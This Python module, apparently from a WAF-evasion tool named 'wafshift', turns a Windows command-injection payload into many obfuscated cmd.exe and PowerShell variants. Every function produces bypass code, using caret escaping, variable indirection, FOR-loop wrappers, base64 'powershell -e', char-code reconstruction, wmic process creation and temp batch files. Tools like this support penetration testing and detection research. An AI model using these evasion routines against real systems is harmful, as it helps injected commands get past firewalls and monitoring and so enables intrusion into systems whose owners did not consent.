"""Windows cmd.exe and PowerShell obfuscation variants."""

from __future__ import annotations

import base64
import random
import re

from wafshift.evasions._common import layered
from wafshift.models.types import EvasionLevel

_CARET_SAFE = frozenset(" &|()<>^")
_HARMLESS = ("echo.", "ver", "dir", "type nul", "cls")
_SEPARATORS = (" & ", " && ", " | ", " || ")
_ENV_PREFIXES = ("%TEMP%\\", "%WINDIR%\\", "%SYSTEMROOT%\\")
_CMD_FLAGS = ("/c", "/v:on /c", "/r /c", "/v:on /r /c", "/q /c")
_COMSPECS = ("%COMSPEC%", "%SYSTEMROOT%\\system32\\cmd.exe", "%WINDIR%\\system32\\cmd.exe")
_MISDIRECTION_VARS = (
    "ALLUSERSPROFILE", "APPDATA", "COMMONPROGRAMFILES", "COMPUTERNAME",
    "COMSPEC", "HOMEDRIVE", "HOMEPATH", "LOCALAPPDATA", "LOGONSERVER",
)
_ALNUM = re.compile(r"[a-zA-Z0-9]")
_WORD_CHAR = re.compile(r"\w", re.ASCII)


def _words(payload: str) -> tuple[str, list[str]]:
    words = payload.split()
    if not words:
        return payload, []
    return words[0], words[1:]


def _join(cmd: str, args: list[str]) -> str:
    return " ".join([cmd, *args])


def _quote_args(payload: str, rng: random.Random | None = None) -> str:
    """Wrap every argument in double quotes (or a random half when ``rng`` is given)."""
    cmd, args = _words(payload)
    if not args:
        return payload
    return _join(cmd, [
        f'"{arg}"' if rng is None or rng.randrange(2) == 0 else arg for arg in args
    ])


def _carets(payload: str, rng: random.Random | None = None) -> str:
    return "".join(
        "^" + ch if ch not in _CARET_SAFE and (rng is None or rng.randrange(3) == 0) else ch
        for ch in payload
    )


def _random_case(payload: str, rng: random.Random) -> str:
    return "".join(
        ch.swapcase() if ch.isascii() and ch.isalpha() and rng.randrange(2) == 0 else ch
        for ch in payload
    )


def _separated(payload: str, rng: random.Random) -> str:
    sep = rng.choice(_SEPARATORS)
    harmless = rng.choice(_HARMLESS)
    return harmless + sep + payload if rng.randrange(2) == 0 else payload + sep + harmless


def _joined_with(payload: str, rng: random.Random, pick) -> str:
    cmd, args = _words(payload)
    return cmd + "".join(pick() + arg for arg in args)


def _basic(payload: str, rng: random.Random) -> list[str]:
    cmd, args = _words(payload)
    tail = " ".join(args)
    return [
        _quote_args(payload, rng),
        _carets(payload, rng),
        f"set c={cmd} && %c%" + (" " + tail if args else ""),
        _joined_with(payload, rng, lambda: "," if rng.randrange(3) == 0 else " "),
        _joined_with(payload, rng, lambda: " " * rng.randint(1, 3)),
        f"setlocal enabledelayedexpansion && set v={cmd} && !v! {tail}",
        f"{rng.choice(_ENV_PREFIXES)}{cmd} {tail}",
        _separated(payload, rng),
        f"for /F \"tokens=*\" %a in ('{cmd}') do %a {tail}",
        _ALNUM.sub(lambda m: f'"{m.group()}"' if rng.randrange(4) == 0 else m.group(), payload),
        f"({cmd}) {tail}" if args else payload,
        _random_case(payload, rng),
    ]


# --- Medium ---


def _set_chain(payload: str) -> str:
    cmd, args = _words(payload)
    names = [chr(ord("b") + i) for i in range(len(args))]
    sets = "".join(f" && set {name}={arg}" for name, arg in zip(names, args))
    refs = "".join(f" %{name}%" for name in names)
    return f"set a={cmd}{sets} && %a%{refs}"


def _char_substitution(payload: str) -> str:
    cmd, args = _words(payload)
    sets = " && ".join(f"set _c{i}={ch}" for i, ch in enumerate(cmd))
    combined = "".join(f"%_c{i}%" for i in range(len(cmd)))
    return f"{sets} && set command={combined} && %command%" + "".join(" " + a for a in args)


def _medium(payload: str, rng: random.Random) -> list[str]:
    cmd, args = _words(payload)
    combined = _separated(_random_case(_carets(payload), rng), rng)
    return [
        _quote_args(payload),
        _carets(payload),
        _set_chain(payload),
        f"for %X in ({cmd}) do %X {' '.join(args)}",
        f'cmd.exe /V:ON /C "set cmd="{payload}" && !cmd!"',
        combined,
        "call " + payload,
        f"cmd.exe {rng.choice(_CMD_FLAGS)} {_quote_args(payload)}",
        _char_substitution(payload),
        f"{rng.choice(_COMSPECS)} /c {payload}",
    ]


# --- Advanced ---


def _powershell_encoded(payload: str) -> str:
    encoded = base64.b64encode(payload.encode("utf-16-le", errors="surrogatepass"))
    return "powershell -e " + encoded.decode("ascii")


def _char_codes(payload: str) -> str:
    cmd, args = _words(payload)
    codes = ",".join(str(ord(ch)) for ch in cmd)
    return f'powershell -nop -c "&(-join[char[]]({codes}))' + "".join(" " + a for a in args) + '"'


def _alternative_interpreter(payload: str, rng: random.Random) -> str:
    return rng.choice((
        f"cmd.exe /k {payload} & exit",
        f"cmd.exe /c start /b {payload}",
        f'cmd.exe /c start "" /b {payload}',
        f'wmic process call create "{payload}"',
    ))


def _nested_for(payload: str, rng: random.Random) -> str:
    cmd, args = _words(payload)
    tail = " ".join(args)
    return rng.choice((
        f"for /l %a in (1,1,1) do {cmd} {tail}",
        f'for /f "tokens=1,* delims=." %a in ("a.{cmd}") do %a {tail}',
        f'for /f "usebackq tokens=*" %a in (`echo {cmd}`) do %a {tail}',
    ))


def _advanced(payload: str, rng: random.Random) -> list[str]:
    cmd, args = _words(payload)
    tail = " ".join(args)
    temp_file = f"%TEMP%\\x{rng.randrange(10000)}.bat"
    misdirection = (
        f"set x=%{rng.choice(_MISDIRECTION_VARS)}% && set y={cmd} && call %y%"
        + (" " + tail if args else "")
    )
    return [
        _powershell_encoded(payload),
        f'set a=e&&set b=x&&set c=e&&%a%%b%%c% "{payload}"',
        f'cmd.exe /V:ON /C "set p={cmd} && set a={tail} && !p! !a!"',
        "powershell -nop -c \"&([scriptblock]::Create('" + payload.replace(" ", "' '") + "'))\"",
        _WORD_CHAR.sub(lambda m: f"[{m.group()}]" if rng.randrange(5) == 0 else m.group(), payload),
        "".join(
            f"%u{ord(ch):04x}" if 32 < ord(ch) < 127 and rng.randrange(3) == 0 else ch
            for ch in payload
        ),
        f"(echo {payload})>{temp_file} && call {temp_file}",
        misdirection,
        _char_codes(payload),
        _alternative_interpreter(payload, rng),
        _nested_for(payload, rng),
    ]


def windows_cmd_variants(
    payload: str, level: EvasionLevel, rng: random.Random | None = None,
) -> list[str]:
    return layered(payload, level, (_basic, _medium, _advanced), rng)
